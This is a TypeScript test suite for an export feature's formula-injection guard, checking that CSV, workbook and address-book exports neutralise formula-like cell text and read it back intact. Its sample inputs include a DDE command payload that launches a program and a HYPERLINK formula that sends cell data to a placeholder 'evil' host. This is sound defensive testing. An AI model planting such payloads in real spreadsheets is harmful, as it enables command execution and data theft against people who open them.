import { read as readWorkbook } from '@e965/xlsx';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { ColumnShape } from '../../../../src-renderer/features/export/columns.ts';
import { createCsvEncoder } from '../../../../src-renderer/features/export/csv-encoder.ts';
import { createXlsxEncoder } from '../../../../src-renderer/features/export/xlsx-encoder.ts';
import { readTableBytes } from '../../../../src-renderer/features/table-file/read-bytes.ts';
import { orderTableOptions } from '../../../../src-renderer/features/table-file/table-file.ts';
import type { CsvStyle } from '../../../../src-shared/contract/exports.ts';
import {
  type AddressFields,
  emptyAddress,
  tidyAddress,
} from '../../../../src-shared/domain/address-entry.ts';
import { addressesOfTable, csvOfAddresses } from '../../../../src-shared/table/address-csv.ts';
import {
  guarded,
  guardedInCsv,
  unguarded,
  unguardedInCsv,
} from '../../../../src-shared/table/formula-guard.ts';
import { addressFileWords } from '../../../support/builders/address-file-words.ts';
import { parseAllRows } from '../../../support/parse-table.ts';

const formulas = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\t=1',
  '\r=1',
  '\n=1',
  '\ttext',
  '\rtext',
  '\ntext',
  ' =1',
  '  +1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '\u202e=1',
  '\u0000=1',
  "'=1",
  "''=1",
  "+1+cmd|' /C calc'!A0",
  '-1+HYPERLINK("http://evil/?"&A1;"x")',
  '+49 40 123 4567',
];
const texts = ['', 'A-1', 'a=1', "it's", "'quoted'", '00270', 'x@y.example', '1-2', '(+49) 40', ' spaced '];

describe('the mark before a text that a spreadsheet would take for a formula', () => {
  it.each(formulas)('stands before %j, once, and is taken off again', text => {
    expect(guarded(text)).toBe(`'${text}`);
    expect(unguarded(guarded(text))).toBe(text);
  });

  it.each(texts)('does not stand before %j', text => {
    expect(guarded(text)).toBe(text);
    expect(unguarded(text)).toBe(text);
  });

  it('never changes what is read back, whatever the text', () => {
    const anything = fc
      .tuple(fc.constantFrom('', "'", "''", ' ', '\t', '='), fc.string({ unit: 'grapheme' }))
      .map(parts => parts.join(''));
    fc.assert(fc.property(anything, text => unguarded(guarded(text)) === text));
  });
});

describe('the mark before a formula within a cell of a CSV', () => {
  it.each([
    ['Hall 3,=1+1', "Hall 3,'=1+1"],
    ['Hall 3; @SUM(A1)', "Hall 3; '@SUM(A1)"],
    ['Hall 3\t+1+cmd', "Hall 3\t'+1+cmd"],
    ['Hall 3\r\n=1', "Hall 3\r\n'=1"],
    ['Hall 3,"=1"', 'Hall 3,"\'=1"'],
    ["Hall 3,'=1", "Hall 3,''=1"],
    ['=1,=2', "'=1,'=2"],
    ['Hall 3,+1;x', "Hall 3,'+1;x"],
    // The next cell of the line may go on with it.
    ['Hall 3,+1', "Hall 3,'+1"],
    ["(,'-\r- ,", "(,''-\r'- ,"],
    [';\t-\t', ";\t'-\t"],
    ['\n\r-\r', "'\n\r'-\r"],
    ['a\n \t+1\t', "a\n \t'+1\t"],
  ])('%j becomes %j', (text, written) => {
    expect(guardedInCsv(text)).toBe(written);
    expect(unguardedInCsv(written)).toBe(text);
  });

  it.each([
    '040 123, +358 40 123, 2',
    'a; -5;',
    'a;b\n+1\nc',
    ';b\t+1\t',
    'a\r\n\r\n+1\r\n',
    'Street 1, 2=3',
    'A=B',
    '1,5 - 2,5',
  ])('leaves %j', text => {
    expect(guardedInCsv(text)).toBe(text);
  });

  const part = fc.oneof(
    fc.constantFrom(
      ',',
      ';',
      '\t',
      '|',
      '\n',
      '\r',
      '"',
      "'",
      ' ',
      '=',
      '+',
      '-',
      '@',
      '＝',
      '1',
      'cmd',
      ')',
    ),
    fc.string({ unit: 'grapheme-ascii', maxLength: 3 }),
  );
  const text = fc.array(part, { maxLength: 12 }).map(parts => parts.join(''));

  it('never changes what is read back, whatever the text', () => {
    fc.assert(fc.property(text, one => unguardedInCsv(guardedInCsv(one)) === one));
    const signs = fc.array(fc.constantFrom(...',;\t\r|-+1=\'" ('.split('')), { minLength: 3, maxLength: 9 });
    fc.assert(
      fc.property(
        signs.map(parts => parts.join('')),
        one => unguardedInCsv(guardedInCsv(one)) === one,
      ),
      {
        numRuns: 20_000,
      },
    );
  });

  // Whoever looked back from each sign would take minutes.
  it.each(['\n', '\t', ',', '\r\n', ' ', '"', "'", '\t"', '\n=', ',-1'])(
    'is there at once in many %j',
    sign => {
      const long = `a${sign.repeat(200_000)}b`;
      expect(unguardedInCsv(guardedInCsv(long))).toBe(long);
    },
  );

  it('leaves no cell that is a formula, with whichever separator it is split', () => {
    const split = fc.constantFrom(',', ';', '\t', '|');
    fc.assert(
      fc.property(text, split, split, (one, own, other) => {
        const line = Papa.unparse([['1', guardedInCsv(one), 'x']], { delimiter: own });
        const cells = Papa.parse<string[]>(line, { delimiter: other }).data.flat();
        const isFormula = (cell: string) =>
          /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) && !/^\s*[+\-＋－][\d\s()./-]*$/.test(cell);
        return !cells.some(isFormula);
      }),
      { numRuns: 1_000 },
    );
  });
});

const column: ColumnShape[] = [
  { kind: 'text', heading: 'Reference' },
  { kind: 'text', heading: 'Note' },
];
const cell = fc.oneof(fc.constantFrom(...formulas, ...texts), fc.string({ unit: 'grapheme-ascii' }));

describe('what we write', () => {
  it('as CSV has no cell that is a formula, and our own import reads it as it was', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(cell, cell), { minLength: 1 }),
        fc.constantFrom<CsvStyle['separator']>(';', ',', '\t'),
        (rows, separator) => {
          const encoder = createCsvEncoder(column, { separator, decimal: ',', hasByteOrderMark: true });
          const text = Buffer.concat([encoder.rows(rows), encoder.end()]).toString();
          expect(parseAllRows(text, separator).slice(1, -1)).toEqual(rows);
        },
      ),
    );
  });

  it('as a workbook has text where it would be a formula, and our own import reads it as it was', async () => {
    const rows = [...formulas, ...texts].filter(text => !text.includes('\u0000')).map(text => [text, 'x']);
    const encoder = createXlsxEncoder(column, 'Orders');
    encoder.rows(rows);
    const bytes = encoder.end();
    const sheet = readWorkbook(bytes, { cellFormula: true }).Sheets.Orders ?? {};
    expect(rows.every((_, index) => sheet[`A${index + 2}`]?.f === undefined)).toBe(true);
    const table = await readTableBytes(bytes, orderTableOptions);
    const read = table.kind === 'read' ? table.sheets[0]?.rows.slice(1) : [];
    expect(read).toEqual(rows);
  });

  it('as an address book has no formula in its headings and kinds', () => {
    const words = { ...addressFileWords, city: '=1+1', stop: '=2+2' };
    const text = [...csvOfAddresses([emptyAddress('stop')], words)].join('');
    expect(text).toContain(";'=1+1;");
    expect(text).toContain("'=2+2;");
  });

  it('as an address book has no cell that is a formula, and is read back as it was', () => {
    const field = fc.constantFrom(...formulas, 'Weg 1');
    const fields = fc.record({ name: field, address: field, contactName: field, phone: field, note: field });
    fc.assert(
      fc.property(fc.array(fields, { minLength: 1, maxLength: 5 }), typed => {
        const addresses: AddressFields[] = typed.map(one =>
          tidyAddress({ ...emptyAddress('stop'), countryCode: 'DE', ...one }),
        );
        const text = [...csvOfAddresses(addresses, addressFileWords)].join('');
        const seen = Papa.parse<string[]>(text, { delimiter: ';' }).data.flat();
        expect(seen.filter(one => !one.startsWith("'") && guarded(one) !== one)).toEqual([]);
        const read = addressesOfTable(parseAllRows(text));
        expect(read.kind === 'read' && read.addresses).toEqual(addresses);
      }),
    );
  });
});
